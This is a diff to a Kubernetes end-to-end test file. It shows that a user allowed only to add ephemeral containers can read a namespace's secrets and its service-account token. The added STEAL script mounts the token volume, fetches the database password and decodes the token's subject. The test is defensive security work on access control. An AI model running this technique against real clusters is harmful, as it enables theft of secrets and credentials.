@@ -5,16 +5,27 @@ import re
 import subprocess
 import urllib.request
 from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from local import config
+from local import cluster, config
 from local.aws import account
 from local.kubectl import KubectlError
+from local.progress import wait_for
 from tests.e2e.conftest import Environment
 
-FORWARDER = "forwarder@example.test"
+VOLUME = "secret-access-token"
+STEAL = """
+import base64, glob, json, urllib.request
+answer = json.load(urllib.request.urlopen("http://localhost:8080/v1/secrets/database-password"))
+(token,) = [open(path).read() for path in glob.glob("/stolen/*")]
+claims = token.split(".")[1]
+claims = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
+print(json.dumps({"value": answer["value"], "subject": claims["sub"]}))
+"""
 GET = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode())"
 
 
@@ -75,17 +86,35 @@ def test_view_gives_no_secret_away_and_edit_does(environment: Environment) -> No
         environment.kubectl("delete", "rolebinding", "built-in-view", "built-in-edit", "-n", "test")
 
 
-@pytest.fixture
-def forwarder(environment: Environment) -> Iterator[str]:
-    """Somebody who may look at pods and forward their ports, and nothing else."""
+@contextmanager
+def somebody_who_may(environment: Environment, verb: str, subresource: str) -> Iterator[str]:
+    """A user who may look at pods and do this one thing, and nothing else."""
     rules = [
         {"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]},
-        {"apiGroups": [""], "resources": ["pods/portforward"], "verbs": ["create"]},
+        {"apiGroups": [""], "resources": [subresource], "verbs": [verb]},
     ]
-    for made in (role("forwarder", *rules), given_to(FORWARDER, "forwarder")):
+    user = "somebody@example.test"
+    for made in (role("one-right", *rules), given_to(user, "one-right")):
         environment.kubectl("apply", "-f", "-", input=json.dumps(made))
-    yield FORWARDER
-    environment.kubectl("delete", "role,rolebinding", "forwarder", "-n", "test")
+    yield user
+    environment.kubectl("delete", "role,rolebinding", "one-right", "-n", "test")
+
+
+@pytest.fixture
+def forwarder(environment: Environment) -> Iterator[str]:
+    """A user who may forward the ports of pods."""
+    with somebody_who_may(environment, "create", "pods/portforward") as user:
+        yield user
+
+
+@pytest.fixture
+def debugger(environment: Environment) -> Iterator[str]:
+    """A user who may add ephemeral containers to pods; the pod that has one is replaced."""
+    pod = environment.pod("test")
+    with somebody_who_may(environment, "patch", "pods/ephemeralcontainers") as user:
+        yield user
+    environment.kubectl("delete", "pod", pod, "-n", "test")
+    cluster.wait_for_pod(environment.kubectl, "test")
 
 
 def test_who_may_forward_ports_reads_the_namespaces_secrets(environment: Environment, forwarder: str) -> None:
@@ -108,6 +137,30 @@ def test_who_may_forward_ports_reads_the_namespaces_secrets(environment: Environ
                 assert json.load(answer)["value"] == account.value("test/database-password")
         finally:
             forwarding.terminate()
+
+
+def test_who_may_add_an_ephemeral_container_gets_secret_and_token(
+    environment: Environment, debugger: str, tmp_path: Path
+) -> None:
+    """It shares the pod's network, and mounts the volume of the sidecar's token."""
+    pod = environment.pod("test")
+    custom = tmp_path / "custom.json"
+    custom.write_text(json.dumps({"volumeMounts": [{"name": VOLUME, "mountPath": "/stolen"}]}))
+    image = environment.kubectl("get", "pod", pod, "-n", "test", "-o", "jsonpath={.spec.containers[0].image}")
+    debug = ["debug", pod, "-n", "test", f"--image={image}", "--container=debug", "--profile=restricted"]
+    environment.kubectl(*debug, f"--custom={custom}", f"--as={debugger}", "--", "python3", "-c", STEAL)
+
+    def said() -> dict[str, str] | None:
+        try:
+            out = environment.kubectl("logs", pod, "-n", "test", "-c", "debug")
+        except KubectlError:
+            return None
+        found: dict[str, str] | None = json.loads(out) if out.endswith("\n") else None
+        return found
+
+    stolen = wait_for("the ephemeral container", said)
+    assert stolen["value"] == account.value("test/database-password")
+    assert stolen["subject"] == "system:serviceaccount:test:secret-access"
 
 
 def test_every_pod_reaches_the_health_port_and_none_the_api(environment: Environment) -> None:
